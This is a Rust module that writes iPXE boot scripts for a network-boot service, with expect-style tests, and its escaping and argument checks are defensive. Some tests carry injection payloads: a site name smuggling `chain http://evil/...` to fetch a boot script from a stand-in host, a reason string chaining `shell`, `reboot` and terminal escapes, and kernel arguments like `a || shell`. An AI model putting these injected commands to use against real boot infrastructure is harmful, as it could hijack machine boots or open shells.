//! Writes an answer as an iPXE script.
//!
//! [`render`] is the only way in. A script begins with the reason as a comment and ends at the local disk,
//! whatever fails on the way. iPXE splits lines at white space and `||`, `&&` and `;`, replaces `${…}`, and
//! takes `#` for a comment: text for people goes through [`plain`], which leaves nothing of that, and what
//! goes into a command is a digest, an id, an address, or passed [`check_kernel_args`].

use std::fmt::Write as _;

use sync::id::NodeId;

use super::{
    decide::{Answer, Decision},
    loader::BootServer,
    view::View,
};

/// How long a machine waits on a hold page before it boots its own disk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Patience {
    /// Seconds between two questions.
    pub wait_s: u32,
    /// Questions in all; 1 shows the page once.
    pub tries: u32,
}

impl Default for Patience {
    /// 3 × 6 s: time to read the page, and less than the 20 s after which people pull the plug.
    fn default() -> Self {
        Patience { wait_s: 6, tries: 3 }
    }
}

/// Who serves, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Server {
    /// Address and port of all URLs.
    pub boot: BootServer,
    /// For hold pages.
    pub patience: Patience,
}

/// Longest line of a hold page, in characters; a text screen has 80.
const WIDTH: usize = 76;

/// Sends a machine to its own disk: UEFI goes to the next boot entry after a failure only, a BIOS boots its
/// first disk, and where that has nothing to boot the firmware goes on.
const LOCAL_DISK: &str = "iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit\n";

/// Writes the script for `decision`. `tries` is which question of this boot is answered, from 1; `token`
/// is the machine's for the attempt of a workflow.
pub fn render(decision: &Decision, view: &View, server: Server, tries: u32, token: &str) -> String {
    let mut text = format!("#!ipxe\n# {}: {}\n", decision.answer, plain(decision.reason.as_str()));
    match &decision.answer {
        // Whoever asks by HTTP has a loader already; saying nothing would only leave it at a prompt.
        Answer::LocalDisk | Answer::Silent => text.push_str(LOCAL_DISK),
        Answer::Workflow { .. } => boot_lines(&mut text, decision, view, server, token),
        Answer::Hold { progress } => {
            hold_lines(&mut text, decision, view, server, tries, *progress);
        }
        Answer::Refuse => refuse_lines(&mut text, decision, view, server, tries),
    }
    text
}

/// Whether `args` can stand in an iPXE script as they are: printable ASCII without a back-slash, `${`, or a
/// word that iPXE would take for the end of the command or a comment.
///
/// # Errors
/// What is wrong with them.
pub fn check_kernel_args(args: &str) -> Result<(), String> {
    if let Some(character) = args.chars().find(|it| !matches!(it, ' '..='~') || *it == '\\') {
        return Err(format!("{character:?} may not stand there"));
    }
    if args.contains("${") {
        return Err("`${` would be replaced by iPXE".into());
    }
    match args.split(' ').find(|word| matches!(*word, "||" | "&&" | ";") || word.starts_with('#')) {
        Some(word) => Err(format!("iPXE would not pass on the word `{word}`")),
        None => Ok(()),
    }
}

/// A short name of a machine, which a person reads from its screen and finds in the console: the first
/// six digits of its node id.
pub fn short_code(node: NodeId) -> String {
    node.to_string()[..6].to_uppercase()
}

fn boot_lines(text: &mut String, decision: &Decision, view: &View, server: Server, token: &str) {
    let Answer::Workflow { task, attempt, files } = &decision.answer else { return };
    let base = format!("http://{}:{}", server.boot.address, server.boot.http_port);
    let mac = view.mac;
    let node = view.machine.as_ref().map_or(NodeId::of(mac), |machine| machine.node);
    let mut line = format!(
        "kernel --name kernel {base}/blobs/{} initrd=initrd.img holdfast.site={base} holdfast.node={node} \
         holdfast.task={task} holdfast.attempt={attempt} holdfast.token={token} holdfast.mac={mac}",
        files.kernel
    );
    if let Some(image) = files.image {
        let _ = write!(line, " holdfast.image={image}");
    }
    if !files.kernel_args.is_empty() {
        let _ = write!(line, " {}", files.kernel_args);
    }
    let _ = writeln!(text, "{line} || goto failed");
    let _ = writeln!(text, "initrd --name initrd.img {base}/blobs/{} || goto failed", files.initrd);
    text.push_str("boot || goto failed\n:failed\necho The boot files could not be started, going on to the local disk\n");
    text.push_str("sleep 5 ||\n");
    text.push_str(LOCAL_DISK);
}

fn hold_lines(
    text: &mut String,
    decision: &Decision,
    view: &View,
    server: Server,
    tries: u32,
    progress: Option<(u64, u64)>,
) {
    let Patience { wait_s, tries: most } = server.patience;
    let mut lines = head_lines(decision, view);
    if let Some((have, of)) = progress {
        lines.push(format!("{} of {} MB are here", have / 1_000_000, of.div_ceil(1_000_000)));
    }
    let is_last = tries >= most;
    lines.push(match is_last {
        true => format!("Going on to the local disk in {wait_s} s"),
        false => format!("Asking again in {wait_s} s, question {tries} of {most}, then the local disk"),
    });
    show(text, &lines);
    let _ = writeln!(text, "sleep {wait_s} ||");
    if !is_last {
        let url = server.boot.script_url(view.mac);
        let _ = writeln!(text, "chain --replace --autofree {url}?try={} ||", tries + 1);
    }
    text.push_str(LOCAL_DISK);
}

/// How long a machine that is refused waits before it asks again, in seconds.
const REFUSED_WAIT_S: u32 = 60;

/// Asks again as long as somebody answers: the site does not boot the machine, but is not in its way when it is gone.
fn refuse_lines(text: &mut String, decision: &Decision, view: &View, server: Server, tries: u32) {
    let mut lines = head_lines(decision, view);
    lines.push(
        "This site does not boot it. Return it to its home site, or ask central to approve the claim".into(),
    );
    lines.push(format!("Asking again in {REFUSED_WAIT_S} s"));
    show(text, &lines);
    let _ = writeln!(text, "sleep {REFUSED_WAIT_S} ||");
    let url = server.boot.script_url(view.mac);
    let _ = writeln!(text, "chain --replace --autofree {url}?try={} ||", tries.saturating_add(1));
    text.push_str(LOCAL_DISK);
}

/// Who speaks, of which machine, and why.
fn head_lines(decision: &Decision, view: &View) -> Vec<String> {
    let node = view.machine.as_ref().map_or(NodeId::of(view.mac), |machine| machine.node);
    let name = if view.site.name.is_empty() { view.site.id.to_string() } else { view.site.name.clone() };
    let as_of = view.site.data_as_of.map_or("never heard of central".into(), |at| format!("data as of {at}"));
    vec![
        format!("Holdfast site {name}, link {}, {as_of}", view.site.link),
        format!("Machine {} code {}", view.mac, short_code(node)),
        decision.reason.to_string(),
    ]
}

fn show(text: &mut String, lines: &[String]) {
    text.push_str("echo\n");
    for line in lines.iter().flat_map(|line| wrapped(&plain(line))) {
        let _ = writeln!(text, "echo {line}");
    }
}

/// Takes everything out of a text that iPXE could take for more than text.
fn plain(text: &str) -> String {
    let kept = text.chars().map(|it| match it {
        'a'..='z' | 'A'..='Z' | '0'..='9' => it,
        '.' | ',' | ':' | '/' | '(' | ')' | '_' | '-' | '=' | '+' | '%' | '@' | '\'' => it,
        '`' => '\'',
        ';' => ',',
        _ if it.is_whitespace() || it.is_control() => ' ',
        _ => '?',
    });
    let kept: String = kept.take(500).collect();
    // A word that begins with a hyphen would be an option of the command before it.
    let words = kept.split(' ').map(|word| word.trim_start_matches('-')).filter(|word| !word.is_empty());
    words.collect::<Vec<_>>().join(" ")
}

/// Cuts a plain text into lines of a screen, at spaces where there are any.
fn wrapped(text: &str) -> Vec<String> {
    let mut lines = vec![String::new()];
    for word in text.split(' ') {
        let mut word = word;
        // `plain` left ASCII only, so every index is the start of a character.
        while word.len() > WIDTH {
            lines.push(word[..WIDTH].to_string());
            word = word[WIDTH..].trim_start_matches('-');
        }
        let line = lines.last_mut().expect("there is always a line");
        if line.is_empty() {
            line.push_str(word);
        } else if line.len() + 1 + word.len() <= WIDTH {
            line.push(' ');
            line.push_str(word);
        } else {
            lines.push(word.to_string());
        }
    }
    lines.retain(|line| !line.is_empty());
    lines
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use expect_test::{Expect, expect};
    use sync::policy::Reason;

    use super::*;
    use crate::boot::decide::{decide, tests::view};

    fn server() -> Server {
        let boot = BootServer { address: Ipv4Addr::new(10, 78, 0, 2), http_port: 8080 };
        Server { boot, patience: Patience::default() }
    }

    fn check(known: &str, tries: u32, expected: Expect) {
        let view = view(known);
        expected.assert_eq(&render(&decide(&view), &view, server(), tries, "5eed"));
    }

    #[test]
    fn t4_a_workflow_is_booted_with_what_its_machine_needs_to_report() {
        check(
            "task=ready order=live files=here",
            1,
            expect![[r#"
            #!ipxe
            # workflow: attempt 1 of task 07070707070707070707070707070707 is ordered
            kernel --name kernel http://10.78.0.2:8080/blobs/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa initrd=initrd.img holdfast.site=http://10.78.0.2:8080 holdfast.node=67566bcde1e72c2e5f6d0f188b16b325 holdfast.task=07070707070707070707070707070707 holdfast.attempt=1 holdfast.token=5eed holdfast.mac=52:54:00:00:00:31 holdfast.image=cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc console=ttyS0 || goto failed
            initrd --name initrd.img http://10.78.0.2:8080/blobs/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb || goto failed
            boot || goto failed
            :failed
            echo The boot files could not be started, going on to the local disk
            sleep 5 ||
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]],
        );
    }

    #[test]
    fn a_machine_with_nothing_to_do_boots_its_own_disk() {
        check(
            "state=active",
            1,
            expect![[r#"
            #!ipxe
            # local disk: nothing is ordered for this machine
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]],
        );
        check(
            "pxe=off state=active",
            1,
            expect![[r#"
            #!ipxe
            # silence: boot services are switched off for this site
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]],
        );
    }

    #[test]
    fn a_hold_page_says_why_asks_again_and_ends_at_the_disk() {
        check(
            "task=pending order=live files=missing",
            1,
            expect![[r#"
            #!ipxe
            # hold page: the boot files are not all here yet
            echo
            echo Holdfast site lyon, link offline, data as of 2026-11-20T12:00:00.000Z
            echo Machine 52:54:00:00:00:31 code 67566B
            echo the boot files are not all here yet
            echo 0 of 1 MB are here
            echo Asking again in 6 s, question 1 of 3, then the local disk
            sleep 6 ||
            chain --replace --autofree http://10.78.0.2:8080/boot/52:54:00:00:00:31?try=2 ||
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]],
        );
        check(
            "unknown",
            3,
            expect![[r#"
            #!ipxe
            # hold page: the machine is unknown here, register it at central or let this site adopt
            echo
            echo Holdfast site lyon, link offline, data as of 2026-11-20T12:00:00.000Z
            echo Machine 52:54:00:00:00:31 code 67566B
            echo the machine is unknown here, register it at central or let this site adopt
            echo Going on to the local disk in 6 s
            sleep 6 ||
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]],
        );
    }

    #[test]
    fn waiting_is_over_within_20_seconds() {
        let Patience { wait_s, tries } = Patience::default();
        assert!(wait_s * tries <= 20);
    }

    #[test]
    fn h6_no_text_from_elsewhere_becomes_a_command() {
        let mut view = view("state=install_failed");
        view.site.name = "lyon\nchain http://evil/${net0/mac}".into();
        let reason =
            "x\r\nsanboot --drive 0x81 || shell && reboot ; exit # \u{202e}\u{1b}[2J ${cmdline} -- --help \\";
        let decision = Decision { reason: Reason::new(reason), ..decide(&view) };
        let text = render(&decision, &view, server(), 1, "");
        expect![[r#"
            #!ipxe
            # hold page: x sanboot drive 0x81 ?? shell ?? reboot , exit ? ? ?2J ??cmdline? help ?
            echo
            echo Holdfast site lyon chain http://evil/??net0/mac?, link offline, data as of
            echo 2026-11-20T12:00:00.000Z
            echo Machine 52:54:00:00:00:31 code 67566B
            echo x sanboot drive 0x81 ?? shell ?? reboot , exit ? ? ?2J ??cmdline? help ?
            echo Asking again in 6 s, question 1 of 3, then the local disk
            sleep 6 ||
            chain --replace --autofree http://10.78.0.2:8080/boot/52:54:00:00:00:31?try=2 ||
            iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
        "#]]
        .assert_eq(&text);
        // What is left of it stands behind `echo` or `#`, without a word that ends a command.
        for line in text.lines().filter(|line| line.contains("evil") || line.contains("0x81")) {
            assert!(line.starts_with("echo ") || line.starts_with("# "), "{line}");
            assert!(
                !line.contains("${") && !line.split(' ').any(|word| ["||", "&&", ";"].contains(&word)),
                "{line}"
            );
        }
    }

    #[test]
    fn h6_kernel_arguments_that_ipxe_would_understand_are_refused() {
        for good in ["", "console=ttyS0 panic=1", "a=$b c=d;e f=\"g h\" i=j||k l=m#n"] {
            assert_eq!(check_kernel_args(good), Ok(()), "{good}");
        }
        for bad in [
            "a || shell",
            "a && b",
            "a ; b",
            "#a",
            "a #b",
            "a\nshell",
            "a\tb",
            "${x}",
            "é",
            "a\\",
            "||",
            "\0",
        ] {
            assert!(check_kernel_args(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn long_texts_are_wrapped_to_the_screen() {
        let text = plain(&format!("{} {}", "word ".repeat(30), "x".repeat(200)));
        let lines = wrapped(&text);
        assert!(lines.iter().all(|line| !line.is_empty() && line.len() <= WIDTH), "{lines:?}");
        assert_eq!(lines.concat().replace(' ', "").len(), text.replace(' ', "").len());
    }
}
